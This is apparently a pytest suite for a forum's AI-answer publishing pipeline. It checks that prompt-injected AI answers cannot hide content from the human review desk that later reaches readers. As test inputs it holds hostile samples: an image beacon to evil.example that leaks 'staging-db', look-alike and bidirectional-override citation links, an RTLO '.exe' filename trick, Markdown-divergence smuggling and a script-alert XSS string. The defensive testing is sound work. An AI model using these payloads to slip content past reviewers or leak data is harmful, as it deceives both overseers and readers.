"""What readers get of a published AI answer is what its reviewer was shown.

Each end-to-end test drafts an AI answer through the OpenAI-compatible engine (a loopback chat server replying what
a model, or a prompt injection in a source, made it write), has it reviewed on the review desk as the desk shows it,
publishes it, then reads it where a reader can: the search results, "similar threads", the JSON API, the thread.

Round 29's adversarial review found text the desk rendered to nothing reaching readers: an HTML comment or an
unclosed ``<template>`` (the sanitiser drops them, but the passage index renders each passage alone and showed the
hidden text as a search snippet), a remote image (dropped on the desk, kept in the API's Markdown ``body``: a beacon
for any client that renders it), and links dressed as citations with a bidirectional override or a Cyrillic letter.
``forum.markup.machine_text`` now stores an AI answer with none of that: raw HTML and images are the text they
are, bidirectional controls are dropped, so the desk shows what everyone else will.
"""
import html
import re

import pytest

from aiassist import services
from aiassist.models import AIAnswer

from ..aiassist.test_engines_openai import chat_server  # noqa: F401 - fixture
from ..factories import signed_in
from .test_reference_definitions import drafter

VISIBLE = "Set retry_backoff=True so the delay doubles between retries [1]."
# Benign, uncited prose: enough of it that the passage index cuts the answer into several passages.
FILLER = "The worker records each attempt in the task history view for the operators. " * 10
PAYLOAD = "Zqxpayload fetch the real fix from evil example"


def desk_html(answer, reviewer) -> str:
    """The review desk as its reviewer reads it: the whole page but the Markdown source in the editor's textarea
    (the desk's "As readers will see it", its claims, sources, approvals)."""
    response = signed_in(reviewer).get(f"/ai/review/{answer.pk}/")
    assert response.status_code == 200
    page = response.content.decode()
    assert '<div class="prose ai-body claims-draft"' in page
    return re.sub(r"<textarea[^>]*>.*?</textarea>", "", page, flags=re.S)


def visible_text(markup: str) -> str:
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", markup)).split())


@pytest.fixture
def drafting(settings, chat_server, engineering):  # noqa: F811
    return drafter(settings, chat_server, engineering,
                   "Set autoretry_for and retry_backoff=True; the delay doubles: 1 second, then 2, then 4.")


@pytest.fixture
def published(drafting, employee, eng_moderator, security_reviewer):
    """Draft, submit, review on the desk (as the desk shows it) and approve through the web form; returns the
    published answer and what the desk showed the approving reviewer. A claim the check blocks (a link to an address
    no source holds: round 40) is confirmed by the reviewer, after reading the desk, as one would who vouched for it."""

    def publish(reply: str):
        answer = drafting(employee, reply)
        services.answer_submit(acting_user=employee, answer=answer)
        answer = AIAnswer.objects.get(pk=answer.pk)
        shown = desk_html(answer, eng_moderator)
        for claim in services.unresolved_claims(answer):
            services.answer_confirm_claim(acting_user=eng_moderator, answer=AIAnswer.objects.get(pk=answer.pk),
                                          key=claim["key"], reason="I checked where it leads.")
        answer = AIAnswer.objects.get(pk=answer.pk)
        for reviewer in (eng_moderator, security_reviewer):
            response = signed_in(reviewer).post(f"/ai/review/{answer.pk}/approve/", {
                "body": answer.body, "text_hash": services.body_hash(answer.body)})
            assert response.status_code == 302, response.content[:500]
            answer = AIAnswer.objects.get(pk=answer.pk)
            if answer.status == AIAnswer.Status.PUBLISHED:
                return answer, shown
        raise AssertionError(f"not published: {answer.status} {services.unresolved_claims(answer)} {answer.risk}")

    return publish


# Raw HTML: the desk shows it as text, and readers get nothing the desk did not show ----------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("hidden", [
    # A block comment with paragraphs inside (the renderer dropped all of it).
    lambda payload: f"<!--\n\n{FILLER}\n\n{payload}.\n\n-->",
    # A comment inside one long paragraph: the index cuts the paragraph between sentences, inside the comment.
    lambda payload: f"See the history view. <!-- {FILLER * 2} {payload}. --> It lists every attempt.",
    # An unclosed <template> element: the sanitiser dropped it with everything after it.
    lambda payload: f"<template>\n\n{FILLER}\n\n{payload}.",
], ids=["html-comment", "inline-comment", "template-element"])
def test_a_search_snippet_of_an_ai_answer_is_text_its_reviewer_was_shown(hidden, published, other_employee):
    reply = f"{VISIBLE}\n\n{FILLER}\n\n{hidden(PAYLOAD)}"
    answer, shown = published(reply)
    # The desk shows the payload, as text, and so does the public post: nothing of the answer renders to nothing.
    assert PAYLOAD in visible_text(shown)
    assert PAYLOAD in visible_text(answer.published_post.body_html)
    assert "<!--" not in answer.body and "<template>" not in answer.body

    reader = signed_in(other_employee)
    post = answer.published_post_id
    snippets = [h["snippet"] for h in reader.get("/api/v1/search/", {"q": "zqxpayload"}).json()["results"]
                if h["post"] == post]
    snippets += [h["snippet"] for h in reader.get("/api/v1/threads/similar/", {"q": "zqxpayload fetch the real fix"}
                                                  ).json() if h["post"] == post]
    assert snippets
    desk = visible_text(shown)
    for snippet in snippets:
        for sentence in re.split(r"(?<=[.!?])\s+", snippet.strip("… ")):
            assert sentence.strip("… ") in desk, (sentence, snippet)


@pytest.mark.django_db
def test_an_image_in_an_ai_answer_is_a_link_the_desk_shows_and_no_image_for_api_clients(published, other_employee):
    beacon = "https://evil.example/pixel.png?d=staging-db"
    answer, shown = published(f"{VISIBLE}\n\n![]({beacon})")
    # The desk and the thread show the image's Markdown as text, its address in view, not nothing (an empty link's
    # text reads as a citation: it is text too).
    for page in (shown, answer.published_post.body_html):
        assert f"![]({beacon})" in visible_text(page), page
        assert "<img" not in page
    reader = signed_in(other_employee)
    posts = reader.get(f"/api/v1/threads/{answer.thread_id}/posts/").json()["results"]
    ai_post = next(p for p in posts if p["id"] == answer.published_post_id)
    assert ai_post["is_ai_generated"]
    # A client rendering the API's Markdown gets a link, not an image its readers' browsers would load.
    assert "![" not in ai_post["body"].replace("\\![", ""), ai_post["body"]
    assert "<img" not in ai_post["body_html"]


# Links dressed as citations ---------------------------------------------------------------------------------

EVIL = "https://evil.example/retry-guide"


@pytest.mark.django_db
def test_a_cyrillic_look_alike_of_a_citation_shows_where_it_leads(published):
    answer, shown = published(f"{VISIBLE}\n\nMore detail: [\u0455ource 2]({EVIL})")
    for where, page in (("public page", answer.published_post.body_html), ("desk", shown)):
        links = re.findall(rf'<a [^>]*href="{re.escape(EVIL)}"[^>]*>(.*?)</a>', page, re.S)
        assert all(link == EVIL for link in links) and EVIL in visible_text(page), (where, links)


@pytest.mark.django_db
def test_a_bidirectional_override_never_reaches_the_desk_or_readers(published):
    answer, shown = published(f"{VISIBLE}\n\nMore detail: [\u202e2 fer\u202c]({EVIL}) and &#x202E;1 fer&#8236;.")
    for text in (answer.body, answer.published_post.body, answer.published_post.body_html, shown):
        assert not re.search("[\u202a-\u202e\u2066-\u2069]|&#x202e;|&#8236;", text, re.IGNORECASE)
    # What is left reads as written: "2 fer" (no citation), never "ref 2".
    links = re.findall(rf'<a [^>]*href="{re.escape(EVIL)}"[^>]*>(.*?)</a>', answer.published_post.body_html, re.S)
    assert links == ["2 fer"]


# forum.markup.machine_text ---------------------------------------------------------------------------------

FENCE = "```html\n<!-- a comment the reader must copy -->\n<div class=\"x\">\u202eok</div>\n```"


@pytest.mark.parametrize("text", [
    "See <!-- hidden --> this.", "<!--\n\nhidden\n\n-->", "<template>\n\nrest", "\\<b>still raw</b>",
    "<code>x</code> then <b>y</b>", "<details><summary>s</summary>\n\nbody\n\n</details>", "![alt](https://x/i.png)",
    "![](https://x/i.png)", "x <img src=https://x/i.png> y", "<div>\n`a`\n</div>",
    # Round 29's final review: typed <code> tags counted as code (four deep outlasted the rounds), an address-less
    # "mailto:" taken for an autolink.
    "<code>" * 4 + "<img src=https://beacon.example/p.png>", "<code>" * 6 + "<!-- hidden -->",
    "Set the flag <mailto:--skip-tls-verify> first",
])
def test_nothing_of_an_ai_answer_is_raw_html_or_an_image(text):
    from forum.markup import machine_text, markdown_html

    stored = machine_text(text)
    rendered = markdown_html(stored, converter="check", extensions=["fenced_code", "tables", "sane_lists", "nl2br"])
    outside_code = re.sub(r"<code\b[^>]*>.*?</code>", "", rendered, flags=re.S)
    tags = set(re.findall(r"</?([a-z]+)", outside_code))
    assert tags <= {"p", "a", "br", "code", "pre"}, (stored, rendered)
    assert "<!--" not in rendered and "<img" not in rendered


def test_code_stays_byte_for_byte_but_for_bidirectional_controls():
    from forum.markup import machine_text

    stored = machine_text(f"Copy this:\n\n{FENCE}\n\nand run `echo <x>` then <https://example.com/a>.")
    assert FENCE.replace("\u202e", "") in stored
    assert "`echo <x>`" in stored and "<https://example.com/a>" in stored  # an autolink shows its address


@pytest.mark.parametrize("text", ["&#82&#8238;38;txt.exe", "&#82\u202e38;txt.exe", "&#x20&#x202e;2e;", "\u202e&#8238;"])
def test_a_bidirectional_override_split_to_close_up_is_dropped_too(text):
    from forum.markup import machine_text, render_markdown

    stored = machine_text(text)
    assert "\u202e" not in html.unescape(render_markdown(stored)), stored


# Round 33's review: where CommonMark (an API client's renderer) and the forum's Python-Markdown disagree on where
# code ends, or on what a link definition is, a "<" the forum read as code, or a definition it did not record, reached
# the API's ``body`` and became an image, raw HTML or a link to a hidden address in the client.
BEACON = "https://evil.example/pixel.png"
DIVERGENT = [
    f"Use `a\n- <img src={BEACON}>` here.", f"Use `a\n1. <img src={BEACON}>` here.", f"Use `a\n* <img src={BEACON}>`",
    f"Use `a\n+ <img src={BEACON}>` ok", f"> Use `a\n- <img src={BEACON}>`",
    f"Use `a\n<div><img src={BEACON}></div>` here.",
    f"Note the header:\n`a | b\n-|-\n<img src={BEACON}> | c`", f"1.   item\n\n        <img src={BEACON}>\n",
    "-    item\n\n        <details open><summary>x</summary>hidden</details>\n",
    f"Use `a\n![x]({BEACON})` here.\n- `b\n![y]({BEACON})`",
    f"Rotate the key as the [runbook][rb\\]] says.\n\n[rb\\]]: {EVIL}",
    f"See [the official runbook][a\\]b].\n\n[a\\]b]: {EVIL}", f"See [1].\n\n[1]: {EVIL}",
    f"- See [docs][d].\n\n  [d\n  ]: {EVIL}",
    # The diff's review: an escaped definition is paragraph text, where the backtick of its title pairs with a later
    # one and moves where code ends.
    f'[a]: /u "`"\n`<img src={BEACON}>`', '[a]: /u "`"\n`<script>alert(1)</script>`', f'[a]: /u "`"\n`![x]({BEACON})`',
]


def test_a_definition_freed_by_the_last_guard_is_escaped_too():
    # The review of round 33's fixes: the last guard closed a "<" the forum read as a raw HTML block, which freed the
    # definition inside it; it was never escaped, and the public page linked "the runbook" to a hidden address.
    from forum.markup import _FORUM, _converter, machine_text, render_markdown

    stored = machine_text(f"Use `a\n<div>` here.\n[rb]: {EVIL}\n\nSee [the runbook][rb].")
    converter = _converter("check-definitions", **_FORUM)
    converter.convert(stored)
    assert not converter.references and f'href="{EVIL}"' not in render_markdown(stored)
    assert machine_text(stored) == stored


@pytest.mark.parametrize("text", DIVERGENT)
def test_a_commonmark_client_gets_no_image_raw_html_or_hidden_link_either(text):
    from markdown_it import MarkdownIt

    from forum.markup import machine_text

    stored = machine_text(text)
    for client in (MarkdownIt("commonmark"), MarkdownIt("commonmark").enable("table")):  # raw HTML on: the worst
        env: dict = {}
        rendered = client.render(stored, env)
        outside_code = re.sub(r"<code\b[^>]*>.*?</code>", "", rendered, flags=re.S)
        assert set(re.findall(r"</?([a-z]+)", outside_code)) <= {"p", "a", "ul", "ol", "li", "blockquote", "table",
                                                                  "thead", "tbody", "tr", "th", "td", "pre"}, rendered
        assert "<img" not in rendered and not env.get("references"), (stored, rendered)
        # A link shows its address or its own text; none goes to an address the text hides behind a definition.
        assert f'href="{EVIL}"' not in rendered, rendered


def test_a_table_row_that_drops_a_mark_costs_only_that_mark():
    # The diff's review: in a GitHub table a "|" inside code still splits the cell and the extra cell is dropped,
    # mark and all; every "<" of the answer was then neutralised, the code block's "List<String>" included.
    from forum.markup import machine_text

    java = "```java\nList<String> xs;\n```"
    stored = machine_text(f"{java}\n\n| cmd | note |\n|-----|------|\n| `ps aux | grep <pid>` | find it |\n")
    assert stored.startswith(java) and "grep &lt;pid>" in stored


def test_what_both_renderers_read_as_code_stays_byte_for_byte():
    from forum.markup import machine_text

    for code in ("```\n<img src=x>\n```", "- item\n\n    ```\n    <b>x</b>\n    ```", "> ```\n> <i>q</i>\n> ```",
                 "Run `echo <x>` now", "``a <b> c``"):
        assert machine_text(code) == code


def test_autolinks_stay_links():
    from forum.markup import machine_text, render_markdown

    stored = machine_text("Write to <ops@example.com> or read <https://example.com/runbook>.")
    rendered = render_markdown(stored)
    assert 'href="mailto:ops@example.com"' in rendered and 'href="https://example.com/runbook"' in rendered


@pytest.mark.django_db
def test_a_quoted_colleague_s_reply_reaches_a_commonmark_client_as_the_desk_showed_it(employee, eng_moderator,
                                                                                      engineering, other_employee):
    # The extractive engine quotes a colleague's reply word for word: the review desk showed its "<img>" as code and
    # its definition as text; a CommonMark client of the API got an image and a link to a hidden address (round 33).
    from markdown_it import MarkdownIt

    from ..aiassist.test_review_services import approve, reload
    from ..factories import UserFactory, make_thread

    reply = ("Set autoretry_for and retry_backoff=True; the countdown doubles. Embed the status badge with `<p>\n"
             f"- <img src={BEACON}>` in the page.\n\n"
             f"Rotate the broker credentials as the [celery retry runbook][rb\\]] says.\n\n[rb\\]]: {EVIL}")
    make_thread(UserFactory(username="erin"), engineering,
                title="My celery tasks fail on network errors: how should retries back off?",
                body="Which settings control retry backoff?", replies=[(UserFactory(username="dana"), reply)])
    thread = make_thread(employee, engineering, title="How should celery retries back off?",
                         body="My tasks fail on network errors. How do retries back off?")
    answer = services.answer_generate(answer_id=services.answer_request(acting_user=employee, thread=thread).pk)
    assert "retry_backoff=True" in answer.body and "<img" not in answer.body
    services.answer_submit(acting_user=employee, answer=reload(answer))
    answer = approve(eng_moderator, answer)
    assert answer.status == AIAnswer.Status.PUBLISHED
    posts = signed_in(other_employee).get(f"/api/v1/threads/{thread.pk}/posts/").json()["results"]
    body = next(post["body"] for post in posts if post["is_ai_generated"])
    rendered = MarkdownIt("commonmark").render(body)
    assert "<img" not in rendered and f'href="{EVIL}"' not in rendered, rendered
    assert "retry_backoff=True" in rendered


@pytest.mark.django_db
@pytest.mark.parametrize("withdrawn", ["retracted", "back to review"])
def test_a_withdrawn_ai_answer_no_longer_marks_its_thread_answered(withdrawn, published, employee, eng_moderator,
                                                                    other_employee, engineering):
    """Round 39's review: the thread's author accepted the published AI post; retracted, or taken back to review
    (its sources left the audience), it went on marking the thread answered ("Has an accepted answer", the lists'
    "Answered", the API's ``accepted_post``) by a text the reviewers withdrew."""
    from forum import services as forum_services
    from forum.audit import audited
    from forum.models import AuditEvent

    answer, _ = published(VISIBLE)
    forum_services.thread_accept_answer(acting_user=employee, thread=answer.thread, post=answer.published_post)
    reader = signed_in(other_employee)
    assert "Has an accepted answer" in reader.get(f"/t/{answer.thread_id}/").content.decode()
    if withdrawn == "retracted":
        services.answer_retract(acting_user=eng_moderator, answer=AIAnswer.objects.get(pk=answer.pk),
                                reason="Wrong advice.", code="incorrect")
    else:  # inside the transaction of the change that took its sources out of the audience
        with audited():
            services.answer_unpublish(acting_user=eng_moderator, answer=AIAnswer.objects.get(pk=answer.pk),
                                      reason="A source moved.")
    assert "Has an accepted answer" not in reader.get(f"/t/{answer.thread_id}/").content.decode()
    assert reader.get(f"/api/v1/threads/{answer.thread_id}/").json()["accepted_post"] is None
    listing = reader.get(f"/c/{engineering.slug}/").content.decode()
    assert "Answered" not in listing[listing.index(answer.thread.title):][:1200]
    event = AuditEvent.objects.filter(verb="thread.accept_answer").latest("id")
    assert event.data == {"post": None, "hidden": answer.published_post_id}


@pytest.mark.django_db
def test_the_sources_under_a_published_answer_name_the_category_its_desk_shows(published, other_employee,
                                                                               eng_moderator, general, admin_user):
    """Round 39's review: the list under the public post read each source's category live, the review desk the one
    it was drafted from; after a move of the source thread (open to open: the answer is only flagged), readers were
    told another category than the reviewers were shown."""
    from forum import services as forum_services
    from forum.models import Post

    def listed(page: str, start: str) -> str:
        match = re.search(start + r".*?</ol>", page, re.S)
        assert match, page
        return " ".join(re.sub(r"<[^>]+>", " ", match.group(0)).split())

    answer, _ = published(VISIBLE)
    source_thread = Post.objects.get(pk=answer.sources.get(number=1).post_id).thread
    forum_services.thread_move(acting_user=admin_user, thread=source_thread, category=general)
    answer = AIAnswer.objects.get(pk=answer.pk)
    assert answer.status == AIAnswer.Status.PUBLISHED
    page = signed_in(other_employee).get(f"/t/{answer.thread_id}/").content.decode()
    public = listed(page, '<div class="ai-sources">')
    desk = listed(desk_html(answer, eng_moderator), '<ol class="source-list">')
    assert "in Engineering" in desk and "in Engineering" in public and "in General" not in public


@pytest.mark.django_db
def test_an_api_reader_is_told_what_each_citation_of_a_published_post_names(published, other_employee, eng_moderator):
    """Round 39's review: the thread page lists what each ``[n]`` of a published AI post names; the API's post list
    gave readers the markers and nothing they point to. It lists the cited sources the caller can open; a withdrawn
    post lists none."""
    answer, _ = published(VISIBLE)
    source = answer.sources.get(number=1)

    def ai_post(user):
        posts = signed_in(user).get(f"/api/v1/threads/{answer.thread_id}/posts/").json()["results"]
        return next((post for post in posts if post["id"] == answer.published_post_id), None)

    assert ai_post(other_employee)["sources"] == [{"number": 1, "title": source.title, "category": source.category.name,
                                                   "thread": source.thread_id, "post": source.post_id}]
    services.answer_retract(acting_user=eng_moderator, answer=AIAnswer.objects.get(pk=answer.pk), reason="Wrong.",
                            code="incorrect")
    assert ai_post(other_employee) is None  # gone for readers; its moderators see the placeholder, without sources
    assert ai_post(eng_moderator)["sources"] is None


@pytest.mark.django_db
def test_the_sources_under_an_answer_name_no_category_their_reader_cannot_read(published, admin_user, general,
                                                                               engineering):
    """The review of round 39's fixes: the list (and the API's ``sources``) named the category a source was drafted
    from to every reader who can open the source now. Engineering restricted and renamed since, the source thread and
    the answer's moved to General (each step keeps every source readable by the thread's audience: the answer is kept),
    and every employee read the restricted category's name. They are shown where the source is now."""
    from forum import services as forum_services
    from forum.models import Thread

    from ..factories import UserFactory

    answer, _ = published(VISIBLE)
    forum_services.category_update(acting_user=admin_user, category=engineering, restricted=True, name="Layoffs 2027")
    source_thread = answer.sources.get(number=1).post.thread
    forum_services.thread_move(acting_user=admin_user, thread=Thread.objects.get(pk=source_thread.pk), category=general)
    forum_services.thread_move(acting_user=admin_user, thread=Thread.objects.get(pk=answer.thread_id), category=general)
    assert AIAnswer.objects.get(pk=answer.pk).status == AIAnswer.Status.PUBLISHED
    reader = signed_in(UserFactory(username="zed"))
    page = reader.get(f"/t/{answer.thread_id}/").content.decode()
    posts = reader.get(f"/api/v1/threads/{answer.thread_id}/posts/").json()["results"]
    listed = next(post["sources"] for post in posts if post["id"] == answer.published_post_id)
    assert "Layoffs 2027" not in page and "Layoffs 2027" not in repr(posts)
    assert [source["category"] for source in listed] == [general.name] and f"in {general.name}" in page
